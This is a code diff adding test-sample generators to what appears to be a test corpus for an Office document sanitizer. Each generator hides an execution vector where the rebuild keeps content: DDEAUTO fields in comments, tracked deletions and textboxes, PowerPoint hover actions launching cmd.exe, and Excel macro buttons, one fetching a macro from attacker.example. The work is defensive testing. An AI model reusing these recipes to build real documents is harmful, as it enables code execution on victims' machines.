@@ -1139,3 +1139,99 @@ def docx_two_main_parts(work: Path) -> bytes:
     package.content_type("/word/document2.xml", base.DOCX_MAIN)
     package.add_rel("_rels/.rels", "rIdMain2", RT + "officeDocument", "word/document2.xml")
     return package.bytes()
+
+
+# ---------------------------------------------------------------- fifth round: content the rebuild keeps on purpose
+@sample("docx_field_in_comment", ".docx", "dde-field", "§17.13.4 comments part (kept by policy) holding a DDEAUTO field")
+def docx_field_in_comment(work: Path) -> bytes:
+    package = _docx()
+    comments = (f'<w:comments xmlns:w="{W_NS}"><w:comment w:id="0" w:author="a"><w:p>{_simple_field(DDEAUTO)}'
+                "</w:p></w:comment></w:comments>")
+    _add_part(package, "word/comments.xml", comments,
+              "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml",
+              DOCUMENT_RELS, "rIdCm", RT + "comments")
+    package.body_append('<w:p><w:commentRangeStart w:id="0"/>' + _run("本文") + '<w:commentRangeEnd w:id="0"/>'
+                        '<w:r><w:commentReference w:id="0"/></w:r></w:p>')
+    return package.bytes()
+
+
+@sample("docx_field_in_tracked_deletion", ".docx", "dde-field",
+        "§17.13.5.13 w:del + delInstrText: rejecting the deletion (tracked changes are kept) revives the field")
+def docx_field_in_tracked_deletion(work: Path) -> bytes:
+    deleted = (
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        f'<w:r><w:delInstrText xml:space="preserve">{html.escape(DDEAUTO)}</w:delInstrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:delText>x</w:delText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+    return _word_with(f'<w:del w:id="2" w:author="a" w:date="2026-01-01T00:00:00Z">{deleted}</w:del>')
+
+
+@sample("docx_field_in_vml_textbox", ".docx", "dde-field", "VML v:textbox/w:txbxContent: a second story inside a shape")
+def docx_field_in_vml_textbox(work: Path) -> bytes:
+    return _word_with(
+        '<w:r><w:pict><v:shape id="tb" style="width:100pt;height:20pt"><v:textbox><w:txbxContent>'
+        f"<w:p>{_simple_field(DDEAUTO)}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
+    )
+
+
+def _pptx_part_action(part: str, rels: str) -> bytes:
+    package = base.Package(base.pptx_bytes())
+    package.add_rel(rels, "rIdAct", RT + "hyperlink", "file:///C:/Windows/System32/cmd.exe", True)
+    text = package.text(part)
+    package.put(part, re.sub(r'(<p:cNvPr id="\d+" name="[^"]*")/>',
+                             r'\1><a:hlinkHover r:id="rIdAct" action="ppaction://program"/></p:cNvPr>', text, count=1))
+    return package.bytes()
+
+
+@sample("pptx_layout_ppaction", ".pptx", "ppaction", "§19.3.1.39 slide layout shapes act on every slide that uses the layout")
+def pptx_layout_ppaction(work: Path) -> bytes:
+    return _pptx_part_action("ppt/slideLayouts/slideLayout2.xml", "ppt/slideLayouts/_rels/slideLayout2.xml.rels")
+
+
+@sample("pptx_master_ppaction", ".pptx", "ppaction", "§19.3.1.42 slide master shape with a mouse-over program action")
+def pptx_master_ppaction(work: Path) -> bytes:
+    return _pptx_part_action("ppt/slideMasters/slideMaster1.xml", "ppt/slideMasters/_rels/slideMaster1.xml.rels")
+
+
+def _xlsx_with_drawing(shape: str) -> base.Package:
+    package = _xlsx(sheet_extra=f'<drawing xmlns:r="{RT[:-1]}" r:id="rIdDr"/>')
+    drawing = (
+        '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
+        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><xdr:oneCellAnchor><xdr:from><xdr:col>3</xdr:col>'
+        "<xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
+        f'<xdr:ext cx="900000" cy="300000"/>{shape}<xdr:clientData/></xdr:oneCellAnchor></xdr:wsDr>'
+    )
+    _add_part(package, "xl/drawings/drawing1.xml", drawing, "application/vnd.openxmlformats-officedocument.drawing+xml",
+              "xl/worksheets/_rels/sheet1.xml.rels", "rIdDr", RT + "drawing")
+    return package
+
+
+@sample("xlsx_shape_assigned_macro", ".xlsx", "macros",
+        "§20.5.2.29 xdr:sp/@macro: a button that opens a macro workbook on a share and runs its macro")
+def xlsx_shape_assigned_macro(work: Path) -> bytes:
+    shape = ('<xdr:sp macro="\'\\\\attacker.example\\share\\[tools.xlsm]\'!Auto_Open"><xdr:nvSpPr><xdr:cNvPr id="2" name="Button 1"/><xdr:cNvSpPr/></xdr:nvSpPr>'
+             '<xdr:spPr><a:prstGeom prst="rect"/></xdr:spPr></xdr:sp>')
+    return _xlsx_with_drawing(shape).bytes()
+
+
+@sample("xlsx_form_control_macro", ".xlsx", "macros", "[MS-XLSX] ctrlProps formControlPr/@fmlaMacro on a form button")
+def xlsx_form_control_macro(work: Path) -> bytes:
+    package = _xlsx(sheet_extra=f'<controls><control xmlns:r="{RT[:-1]}" shapeId="1025" r:id="rIdCtl" name="Button 1"/></controls>')
+    control = ('<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Button" '
+               'fmlaMacro="[0]!Auto_Open" lockText="1"/>')
+    _add_part(package, "xl/ctrlProps/ctrlProp1.xml", control, "application/vnd.ms-excel.controlproperties+xml",
+              "xl/worksheets/_rels/sheet1.xml.rels", "rIdCtl", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/ctrlProp")
+    return package.bytes()
+
+
+@sample("xlam_addin_vba", ".xlam", "macros", "Excel add-in (.xlam): a workbook whose only purpose is its VBA")
+def xlam_addin_vba(work: Path) -> bytes:
+    package = base.Package(base.xlwings_file("quickstart.xlsm"))
+    package.main_type("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "application/vnd.ms-excel.addin.macroEnabled.main+xml")
+    return package.bytes()
+
+
+@sample("xll_addin_dll", ".xll", "macros", "XLL add-in: a DLL Excel loads and runs (2021-22 XLL droppers)", Expect.QUARANTINED)
+def xll_addin_dll(work: Path) -> bytes:
+    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 46 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00"
